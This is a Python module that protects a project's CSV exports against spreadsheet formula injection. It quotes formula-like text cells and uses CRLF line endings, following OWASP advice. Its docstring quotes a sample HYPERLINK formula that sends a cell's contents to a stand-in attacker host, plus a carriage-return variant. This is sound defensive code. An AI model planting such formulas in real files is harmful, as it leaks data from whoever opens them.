"""CSVs that are safe to open in a spreadsheet: no text cell runs as a formula.

A cell such as ``=HYPERLINK("http://evil.test/?"&A2,"open")`` in a CSV the project writes (the
caller's own columns, such as a URL, are copied into predictions.csv) runs when an analyst opens
the file in Excel or LibreOffice. Following OWASP's advice on CSV injection, every *text* cell
(and column name) that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
written with a leading single quote, which spreadsheets show as text and never evaluate.

Numbers stay numbers: numeric columns are untouched, and so is a text cell that is a plain number
(``-1``, ``+0.5``, ``-2e3``), which a spreadsheet reads as that number. ``-1+1`` is not a plain
number (a spreadsheet computes it) and gets the quote.

Lines end with CRLF (RFC 4180, ``LINE_TERMINATOR``): Python's csv writer quotes a cell only when
it holds a character of the line terminator, so with ``\\n`` alone a carriage return inside a
cell (``x\\r=HYPERLINK(...)``) would be written bare, and a spreadsheet would start a new row
with the formula.

``neutralise_formulas`` is applied by every CSV writer of the project: ``ChunkedCSVDataset``
(predictions), ``SafeCSVDataset`` (kedro-datasets' ``pandas.CSVDataset`` for the reports) and
the synthetic-data generator (scripts/synthetic.py).
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd
from kedro_datasets.pandas import CSVDataset
from pandas.api.types import is_object_dtype, is_string_dtype

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet treat a cell as a formula (OWASP)."""

NEUTRALISING_PREFIX = "'"
LINE_TERMINATOR = "\r\n"
"""Line end of the CSVs the project writes: cells holding ``\\r`` or ``\\n`` are then quoted."""
_PLAIN_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?"
_PLAIN_NUMBER_RE = re.compile(_PLAIN_NUMBER)


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading quote when it is text a spreadsheet would run as a formula."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not _PLAIN_NUMBER_RE.fullmatch(value)
    ):
        return NEUTRALISING_PREFIX + value
    return value


def _neutralise_column(column: pd.Series) -> pd.Series | None:
    """The column with its formula-like text cells quoted, or None when it has none."""
    text = column.astype("string")
    candidates = text.str.startswith(FORMULA_PREFIXES).fillna(False).to_numpy(dtype=bool)
    if not candidates.any():
        return None
    # only the few candidates are looked at one by one: plain numbers and non-text values stay
    values = column.to_numpy(dtype=object, copy=True)
    changed = False
    for position in candidates.nonzero()[0]:
        neutral = neutralise_cell(values[position])
        if neutral is not values[position]:
            values[position] = neutral
            changed = True
    if not changed:
        return None
    return pd.Series(values, index=column.index, name=column.name, dtype=object)


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` ready for a CSV a spreadsheet may open: formula-like text cells and column
    names start with a single quote. Numeric columns and plain numbers are left as they are;
    the input is not modified (a copy is returned only when something changed)."""
    result = frame
    names = [neutralise_cell(name) for name in frame.columns]
    if any(new != old for new, old in zip(names, frame.columns, strict=True)):
        result = result.copy(deep=False)
        result.columns = names
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if not (is_object_dtype(column.dtype) or is_string_dtype(column.dtype)):
            continue
        neutral = _neutralise_column(column)
        if neutral is None:
            continue
        if result is frame:
            result = frame.copy(deep=False)
        result.isetitem(position, neutral.set_axis(result.index))
    return result


class SafeCSVDataset(CSVDataset):
    """kedro-datasets' ``pandas.CSVDataset`` that writes formula-like text cells neutralised.

    Same arguments as ``pandas.CSVDataset``; lines end with CRLF unless ``save_args`` say
    otherwise. Loading is unchanged (a neutralised cell loads with its leading quote)."""

    DEFAULT_SAVE_ARGS: dict[str, Any] = {"index": False, "lineterminator": LINE_TERMINATOR}

    def save(self, data: pd.DataFrame) -> None:
        super().save(neutralise_formulas(data))
